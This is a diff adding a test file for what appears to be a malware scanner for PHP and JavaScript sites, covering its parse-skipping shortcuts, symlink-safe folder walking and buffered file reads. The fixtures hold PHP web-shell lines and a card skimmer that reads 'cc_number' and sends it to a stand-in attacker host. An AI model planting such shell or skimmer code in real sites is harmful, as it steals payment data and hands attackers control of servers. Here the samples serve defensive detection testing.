@@ -1,0 +1,166 @@
+// Shortcuts the scanner takes to save time, each checked to change no verdict: PHP code that can
+// do nothing (data files) is not parsed, nor code that runs nothing dynamically but says so in
+// its comments or strings; a script file whose strings hold `<script>` tags is parsed
+// once, the scripts in its strings read from their values; the scanner walks folders by entry
+// types, without lstat, and reads every file into one reused buffer.
+
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { createFilter } from '../../../src/integrity/filter.ts';
+import { readHead, readHeadReused } from '../../../src/integrity/hash.ts';
+import { analyseScriptFile } from '../../../src/integrity/scan/js-analysis.ts';
+import { analysePhp, codeActs } from '../../../src/integrity/scan/php-analysis.ts';
+import { loadCodeRules } from '../../../src/integrity/scan/rules.ts';
+import { scanContent } from '../../../src/integrity/scan/scanner.ts';
+import { walkFiles, walkRoots } from '../../../src/integrity/walk.ts';
+
+const rules = loadCodeRules();
+
+test('codeActs: data whose strings name functions does nothing; any call, eval, include or shell does', () => {
+  const data = `<?php declare(strict_types = 1);
+$ignoreErrors = [];
+$ignoreErrors[] = ['message' => 'Parameter #1 $callback of function call_user_func() expects callable, eval($_POST) given.', 'count' => 1, 'path' => __DIR__ . '/../x.php'];
+# a comment with system($_GET[1]);
+/* and eval(base64_decode($x)); */
+return array('parameters' => ['ignoreErrors' => $ignoreErrors]);
+`;
+  assert.equal(codeActs(data), false);
+  assert.equal(codeActs('<p>Don\'t run(this)</p><?php $a = "x"; ?> more(markup)'), false);
+  for (const acting of [
+    '<?php foo();',
+    '<?php $f($x);',
+    '<?php $o->m ();',
+    '<?php X::m();',
+    '<?php ("sys" . "tem")("id");',
+    '<?php "system"("id");',
+    '<?php $a[0]("id");',
+    '<?php eval  $x;',
+    '<?php EVAL($x);',
+    "<?php include 'x.png';",
+    '<?php require_once $f;',
+    '<?php `id`;',
+    '<?php new X;',
+    '<?php goto a;',
+    '<?php $$k = $v;',
+    '<?php ${"k"} = $v;',
+    '<?php $a = "{$o->run()}";',
+    '<?php $a = <<<EOT\nx\nEOT;',
+    '<?php #[Attr] $a = 1;',
+    "<?php $a = 'unclosed",
+    '<?php /* unclosed',
+    // A `<?` inside what looks like a string or a comment may be code the parser reads.
+    "<?xml a='1'?><p>it's</p><?php system($_GET['c']); ?>'",
+    "<? $a = 1; // x ?> it's <?php eval($_GET['c']); ?>'",
+  ])
+    assert.equal(codeActs(acting), true, acting);
+});
+
+test('a data file that names functions in strings is skipped, a shell in the same shape is not', () => {
+  const rows = Array.from(
+    { length: 50 },
+    (_, i) =>
+      `$e[] = ['message' => 'Parameter #${i} $cmd of function system expects string, $_GET given to eval().', 'count' => 1];`,
+  ).join('\n');
+  const data = `<?php\n${rows}\nreturn $e;\n`;
+  const r = analysePhp(data);
+  assert.equal(r.parsed, false);
+  assert.deepEqual(r.signals, []);
+  const shell = `${data}system($_GET['cmd']);\n`;
+  assert.equal(analysePhp(shell).parsed, true);
+  assert.ok(scanContent(shell, { path: 'x.php', rel: 'x.php' }, rules).length > 0);
+});
+
+test('walkFiles lists the regular files walkRoots finds, in its order, without following symlinks', async () => {
+  const dir = mkdtempSync(join(tmpdir(), 'ripcord-walkfiles-'));
+  try {
+    for (const d of ['b', 'a/z', 'a/y', '.git', 'outside']) mkdirSync(join(dir, d), { recursive: true });
+    for (const f of [
+      'b/2.php',
+      'b/1.php',
+      'a/z/x.js',
+      'a/y/w.phtml',
+      'a/0.txt',
+      'top.php',
+      '.git/HEAD',
+      'outside/o.php',
+    ])
+      writeFileSync(join(dir, f), '<?php echo 1;');
+    symlinkSync(join(dir, 'outside'), join(dir, 'a/linked-dir'));
+    symlinkSync(join(dir, 'top.php'), join(dir, 'b/linked.php'));
+    execFileSync('mkfifo', [join(dir, 'b/pipe')]);
+    const exclude = createFilter({ preset: null, exclude: ['outside', 'outside/**'] });
+    const files = await walkFiles(dir, exclude);
+    const expected = (await walkRoots([dir], exclude)).filter((e) => e.type === 'file').map((e) => e.path);
+    assert.deepEqual(files, expected);
+    assert.ok(files.includes('b/1.php') && !files.includes('b/linked.php') && !files.includes('b/pipe'));
+    assert.ok(!files.some((f) => f.startsWith('a/linked-dir') || f.startsWith('outside/')));
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+const library = `/* A library that writes scripts into the page. */
+var Lib = {
+  ScriptFragment: '<script[^>]*>([\\S\\s]*?)<\\/script>',
+  load: function (src) { document.write('<script type="text/javascript" src="' + src + '"><\\/script>'); },
+  eval: function (html) { return html.match(new RegExp(this.ScriptFragment, 'img')); },
+};
+`;
+
+test('a script file with <script> in its strings is clean when it is, and its string-held skimmer is found', () => {
+  assert.deepEqual(scanContent(library, { path: 'js/lib.js', rel: 'js/lib.js' }, rules), []);
+  // A skimmer written into the page from concatenated literals: only the strings' values show it.
+  const skimmer = `${library}document.write('<script>var n = document.getElementById("cc_number").value;' +
+  'new Image().src = "https://evil-cdn.top/c?d=" + btoa(n);</script>');
+`;
+  const signals = analyseScriptFile(skimmer);
+  const exfil = signals.find((s) => s.id === 'js-card-exfiltration');
+  assert.ok(exfil, JSON.stringify(signals));
+  assert.equal(exfil.line, 7); // where the string that holds it starts
+  const found = scanContent(skimmer, { path: 'js/lib.js', rel: 'js/lib.js' }, rules);
+  assert.ok(found.some((f) => f.rule === 'js-card-exfiltration'));
+});
+
+test('readHeadReused reads what readHead reads, into one buffer, and refuses symlinks', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'ripcord-readhead-'));
+  try {
+    const sizes = [0, 10, 70_000, 300_000, 5];
+    for (const [i, n] of sizes.entries()) writeFileSync(join(dir, `f${i}`), Buffer.alloc(n, 65 + i));
+    for (let i = 0; i < sizes.length; i++) {
+      const p = join(dir, `f${i}`);
+      const want = readHead(p, 100_000).toString('latin1');
+      assert.equal(readHeadReused(p, 100_000).toString('latin1'), want);
+    }
+    symlinkSync(join(dir, 'f1'), join(dir, 'link'));
+    assert.throws(() => readHeadReused(join(dir, 'link'), 100));
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('eval, include, require and $f( in comments and strings do not make code worth parsing; in code they do', () => {
+  const quiet = `<?php
+/**
+ * Include the renderer's output; Require a name. Do not eval() or $callback() it.
+ */
+class Names
+{
+    public function label($a) { return sprintf('%s: include %s', $a, implode(', ', explode(' ', $a))) . "$a(x)"; }
+}
+`;
+  assert.equal(analysePhp(quiet).parsed, false);
+  const loud = [
+    quiet.replace('return sprintf', 'eval($a); return sprintf'),
+    quiet.replace('return sprintf', '$a($a); return sprintf'),
+    quiet.replace('return sprintf', "include $a . '.php'; return sprintf"),
+    // A string that names a callee is still a reason: it can be called through a callback.
+    quiet.replace('return sprintf', "array_map('assert', [$a]); return sprintf"),
+    // "{$f()}" calls from inside a string.
+    quiet.replace('"$a(x)"', '"{$a(1)}"'),
+  ];
+  for (const text of loud) assert.equal(analysePhp(text).parsed, true, text);
+});
